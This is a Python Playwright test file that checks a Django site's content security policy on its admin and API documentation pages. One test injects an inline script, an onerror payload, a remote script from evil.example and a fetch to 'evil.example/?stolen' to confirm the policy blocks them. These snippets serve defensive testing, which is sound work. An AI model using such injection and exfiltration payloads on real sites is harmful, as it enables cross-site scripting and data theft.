"""Every page works under its content security policy, and what is not ours does not run."""

from typing import Any

import pytest
from django.conf import settings
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import SignIn

pytestmark = [pytest.mark.slow, pytest.mark.no_cover]

LOGINS = ["auth/user/", "auth/user/add/", "auth/group/", "auth/group/add/", "password_change/", "nowhere/"]


def test_all_pages_of_the_backoffice_keep_to_their_policy(sign_in: SignIn) -> None:
    """Those of orders too: test_everybody.py opens them."""
    desk = sign_in("superuser")  # which fails the test on what a policy has kept out
    for path in LOGINS:
        desk.goto(f"/admin/{path}")
        desk.wait_for_load_state("networkidle")
        expect(desk.locator("html[x-cloak]")).to_have_count(0)  # Alpine has run
    desk.goto("/admin/auth/user/")
    desk.locator("#result_list a[href*='/change/']").first.click()
    expect(desk.locator("input[name=username]")).to_be_visible()
    desk.goto(desk.url.replace("/change/", "/delete/"))
    desk.goto("/admin/")


def test_an_injected_script_does_not_run_and_sends_nothing_elsewhere(sign_in: SignIn, browser: Browser) -> None:
    desk = sign_in("Support")
    outside = browser.new_context(storage_state=desk.context.storage_state()).new_page()
    blocked = violations(outside)
    outside.goto(desk.url)
    outside.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.ran = true";
            document.body.append(script);
            document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.ran = true">');
            const other = document.createElement("script");
            other.src = "https://evil.example/x.js";
            document.body.append(other);
            return fetch("https://evil.example/?stolen").catch(() => 0);
        }"""
    )
    outside.wait_for_timeout(300)
    assert outside.evaluate("window.ran") is None
    assert len(blocked) >= 4
    outside.context.close()


def test_the_pages_that_show_the_api_keep_to_theirs(browser: Browser, live_server_url: str) -> None:
    context = browser.new_context(base_url=live_server_url)
    page = context.new_page()
    blocked = violations(page)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(f"{settings.API_PREFIX}/docs")
    expect(page.get_by_text("/orders/bulk-transitions").first).to_be_visible()
    page.locator(".opblock-summary").first.click()
    expect(page.get_by_role("button", name="Try it out")).to_be_visible()
    page.goto(f"{settings.API_PREFIX}/redoc")
    expect(page.locator("h2", has_text="Place an order").first).to_be_visible(timeout=20_000)
    page.get_by_placeholder("Search...").first.fill("cancel")
    page.wait_for_timeout(500)
    expect(page.get_by_text("API docs by Redocly")).to_be_visible()
    page.goto(f"{settings.API_PREFIX}/problems")
    page.get_by_role("link", name="price_changed").click()
    expect(page.get_by_role("heading", name="Price changed")).to_be_visible()
    assert page.evaluate("getComputedStyle(document.querySelector('main')).maxWidth") != "none"  # the style sheet is in
    assert blocked == []
    assert [address for address in asked if not address.startswith((live_server_url, "data:", "blob:"))] == []
    context.close()


def violations(page: Page) -> list[Any]:
    """What the policy keeps out of this page, as it comes."""
    found: list[Any] = []
    page.on("console", lambda said: found.append(said.text) if "Content Security Policy" in said.text else None)
    return found
